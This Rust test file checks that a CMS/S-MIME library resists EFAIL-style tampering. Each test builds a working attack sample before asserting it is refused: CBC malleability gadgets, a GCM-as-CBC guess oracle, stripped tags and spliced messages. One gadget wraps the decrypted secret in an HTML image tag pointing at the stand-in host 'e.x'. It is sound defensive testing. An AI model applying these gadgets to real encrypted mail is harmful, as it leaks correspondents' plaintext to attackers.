//! EFAIL and its relatives: somebody on the way changes an encrypted message so that the reader's own
//! program gives the plaintext away, or believes it to be somebody else's.
//!
//! Each sample first proves that it is an attack, on a reader that decrypts and asks nothing. Then
//! every entrance of this room must refuse it and release no octet. Attacks with MIME and HTML
//! around a ciphertext are in the room of letters.

use super::parts::{
    AES256_CBC, BLOCK, Block, ID_COMPRESSED_DATA, ID_ENVELOPED_DATA, KEK_NAME, Parts, blocks,
    cbc_decrypt, cbc_encrypt, xor,
};
use crate::attributes::{ID_DATA, ID_SIGNED_DATA};
use crate::ber;
use crate::enveloped::{AuthEnveloped, ContentKey, EnvelopedHead, KeyEncryptionKey};
use crate::stream::{SealedReader, StreamError};
use crate::tlv;

const KEY: [u8; 32] = [0x42; 32];
const LETTER: &[u8] = b"Content-Type: text/plain\r\n\r\nWe meet at the old mill at midnight.\r\n";

fn content_key() -> ContentKey {
    ContentKey::from_bytes(KEY)
}

fn kek() -> KeyEncryptionKey {
    KeyEncryptionKey::from_bytes([7; 32])
}

fn letter() -> Parts {
    Parts::sealed(LETTER, &content_key(), &kek())
}

/// A way into this room for somebody else's octets: the plaintext, or the code of the refusal.
type Entrance = fn(&[u8]) -> Result<Vec<u8>, &'static str>;

/// Those that open what has a tag. One that reads EnvelopedData, and releases of it only what is
/// signed in it, has to refuse all of the samples as well: see [`assert_refused`].
const ENTRANCES: [(&str, Entrance); 3] =
    [("whole", whole), ("whole, from BER", whole_from_ber), ("streamed", streamed)];

/// What is said to EnvelopedData: that it is not read, or that it is not what somebody signed.
const UNREADABLE: &[&str] = &["unsupported", "unauthentic"];

fn whole(message: &[u8]) -> Result<Vec<u8>, &'static str> {
    let message = AuthEnveloped::from_der(message).map_err(|error| error.code())?;
    let key = message.content_key_from_kek(KEK_NAME, &kek()).map_err(|error| error.code())?;
    message.open(&key).map(|plaintext| plaintext.to_vec()).map_err(|error| error.code())
}

fn whole_from_ber(message: &[u8]) -> Result<Vec<u8>, &'static str> {
    whole(&ber::to_der(message).map_err(|error| error.code())?)
}

fn streamed(message: &[u8]) -> Result<Vec<u8>, &'static str> {
    let open = || -> Result<Vec<u8>, StreamError> {
        let reader = SealedReader::new(message)?;
        let key = reader.head().content_key_from_kek(KEK_NAME, &kek())?;
        reader.open(&key, |plaintext| {
            let mut octets = Vec::new();
            plaintext.read_to_end(&mut octets)?;
            Ok(octets)
        })
    };
    open().map_err(|error| error.code())
}

/// Every entrance refuses the message with one of these codes.
fn assert_refused(what: &str, message: &[u8], codes: &[&str]) {
    for (name, entrance) in ENTRANCES {
        match entrance(message) {
            Err(code) => assert!(codes.contains(&code), "{what}, {name}: {code}"),
            Ok(_) => panic!("{what}, {name}: a plaintext was released"),
        }
    }
}

#[test]
fn what_nobody_changed_is_opened_at_every_entrance() {
    let message = letter().message();
    for (name, entrance) in ENTRANCES {
        assert_eq!(entrance(&message).as_deref(), Ok(LETTER), "{name}");
    }
}

/// An honest message of the kind that EFAIL is about.
fn unprotected(plaintext: &[u8]) -> (Block, Parts) {
    let iv = [0x17; BLOCK];
    let mut padded = plaintext.to_vec();
    let padding = BLOCK - padded.len() % BLOCK;
    padded.resize(padded.len() + padding, padding as u8);
    (iv, letter().relabelled_cbc(&iv, cbc_encrypt(&KEY, &iv, &padded)))
}

#[test]
fn a_content_without_a_tag_is_not_opened_even_if_nobody_changed_it() {
    let (iv, message) = unprotected(LETTER);
    assert!(cbc_decrypt(&KEY, &iv, &message.ciphertext).starts_with(LETTER));
    assert_refused("EnvelopedData", &message.message(), UNREADABLE);
    let octets = message.message();
    assert!(EnvelopedHead::from_prefix(&octets, octets.len() as u64).is_err());
}

/// The malleability gadget of EFAIL: one known block of plaintext makes any number of chosen ones,
/// each beside a block that nobody chose.
fn gadget(known_ciphertext: &[Block; 2], known_plaintext: &Block, chosen: &Block) -> [Block; 2] {
    let [before, block] = known_ciphertext;
    [xor(&xor(before, known_plaintext), chosen), *block]
}

#[test]
fn a_cbc_gadget_that_sends_the_plaintext_away_finds_nobody_to_run_it() {
    let (iv, honest) = unprotected(LETTER);
    let original = blocks(&honest.ciphertext);
    // Every mail begins like this, so its first block is known.
    let known: Block = LETTER[..BLOCK].try_into().unwrap();
    let at = [iv, original[0]];
    let opening = gadget(&at, &known, b"<img src='//e.x/");
    let closing = gadget(&at, &known, b"'>              ");
    let changed = [&opening[..], &original[..], &closing[..]].concat();
    // The first of them is the initialisation vector.
    let (iv, changed) = (changed[0], changed[1..].concat());
    let shown = cbc_decrypt(&KEY, &iv, &changed);
    assert!(shown.starts_with(b"<img src='//e.x/"), "this is an attack");
    assert!(shown.ends_with(b"'>              "));
    assert!(shown.windows(8).any(|octets| octets == b"midnight"), "and it carries the secret");
    let message = honest.relabelled_cbc(&iv, changed).message();
    assert_refused("CBC gadget", &message, UNREADABLE);
}

#[test]
fn a_gcm_content_relabelled_as_cbc_is_no_oracle_for_guesses() {
    let honest = letter();
    // The key stream of GCM is the encrypted counter (SP 800-38D §6.5). Whoever guesses a block
    // knows what the counter was encrypted to, and a decryption with CBC says whether that is so.
    let guess: Block = LETTER[..BLOCK].try_into().unwrap();
    let first = blocks(&honest.ciphertext[..BLOCK])[0];
    let question = xor(&first, &guess).to_vec();
    let counter = [&honest.nonce()[..], &2u32.to_be_bytes()].concat();
    let iv = [0; BLOCK];
    assert_eq!(cbc_decrypt(&KEY, &iv, &question), counter, "this confirms the guess");
    let asked = honest.relabelled_cbc(&iv, question);
    assert_refused("relabelled", &asked.message(), UNREADABLE);
    // Under the type that it came with, the other algorithm is refused as well.
    let inside = Parts { outer_type: honest.outer_type, version: 0, ..asked };
    let inside = Parts { end: honest.end.clone(), ..inside };
    assert_refused("CBC under GCM's type", &inside.message(), &["unsupported"]);
}

#[test]
fn a_content_whose_tag_was_taken_away_stays_closed() {
    let honest = letter();
    for (what, end) in [
        ("no tag", Vec::new()),
        ("empty tag", tlv::element(tlv::OCTET_STRING, &[])),
        ("short tag", tlv::element(tlv::OCTET_STRING, &honest.end[2..14])),
        ("tag as an attribute", tlv::element(tlv::context(2), &honest.end)),
    ] {
        let stripped = Parts { end, ..honest.clone() };
        assert_refused(what, &stripped.message(), &["malformed", "unsupported", "unauthentic"]);
    }
    let relabelled = Parts { outer_type: ID_ENVELOPED_DATA, version: 2, end: Vec::new(), ..honest };
    assert_refused("GCM as EnvelopedData", &relabelled.message(), &["unsupported"]);
}

#[test]
fn a_changed_bit_of_ciphertext_or_tag_releases_nothing() {
    let honest = letter();
    for at in 0..honest.ciphertext.len() * 8 {
        let mut changed = honest.clone();
        changed.ciphertext[at / 8] ^= 1 << (at % 8);
        assert_refused("ciphertext", &changed.message(), &["unauthentic"]);
    }
    for at in 2 * 8..honest.end.len() * 8 {
        let mut changed = honest.clone();
        changed.end[at / 8] ^= 1 << (at % 8);
        assert_refused("tag", &changed.message(), &["unauthentic"]);
    }
}

#[test]
fn pieces_of_two_letters_make_no_third() {
    let (one, other) = (letter(), Parts::sealed(b"yes", &ContentKey::from_bytes([1; 32]), &kek()));
    let other_slots = Parts { recipient_infos: other.recipient_infos.clone(), ..one.clone() };
    assert_refused("key of another letter", &other_slots.message(), &["unauthentic"]);
    let other_nonce = Parts { algorithm: letter().algorithm, ..one.clone() };
    assert_refused("nonce of another letter", &other_nonce.message(), &["unauthentic"]);
    let cut = Parts { ciphertext: one.ciphertext[..BLOCK].to_vec(), ..one };
    assert_refused("only the first block", &cut.message(), &["unauthentic"]);
}

/// RFC 8551 §2.4.5 puts compression anywhere; a reader that expands it is told by an attacker how
/// much memory to use, and in which order signature and encryption were meant.
#[test]
fn compressed_data_is_not_expanded_wherever_it_stands() {
    let inside = Parts { inner_type: ID_COMPRESSED_DATA, ..letter() };
    assert_refused("inside, by its type", &inside.message(), &["compressed-data"]);
    let outside = Parts { outer_type: ID_COMPRESSED_DATA, ..letter() };
    assert_refused("outside, by its type", &outside.message(), &["compressed-data"]);
}

#[test]
fn a_type_inside_or_outside_that_we_do_not_know_is_refused() {
    assert!(letter().is_ours());
    for oid in [ID_SIGNED_DATA, ID_ENVELOPED_DATA, AES256_CBC] {
        let inside = Parts { inner_type: oid, ..letter() };
        assert_refused("type inside", &inside.message(), &["unsupported"]);
        let outside = Parts { outer_type: oid, ..letter() };
        assert_refused("type outside", &outside.message(), &["unsupported", "malformed"]);
    }
    let plain = Parts { outer_type: ID_DATA, ..letter() };
    assert_refused("not encrypted at all", &plain.message(), &["unsupported"]);
}
